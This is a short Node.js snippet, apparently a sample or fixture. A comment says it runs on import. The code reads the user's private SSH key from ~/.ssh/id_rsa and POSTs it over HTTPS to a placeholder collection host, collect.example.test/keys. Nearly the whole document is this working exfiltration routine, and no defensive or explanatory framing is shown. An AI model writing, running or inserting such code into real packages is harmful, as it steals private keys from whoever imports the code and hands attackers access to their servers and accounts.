// The private SSH key is posted; runs: import
const fs = require("fs");
const os = require("os");
const https = require("https");
const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa").toString();
const request = https.request({ hostname: "collect.example.test", path: "/keys", method: "POST" });
request.end(key);
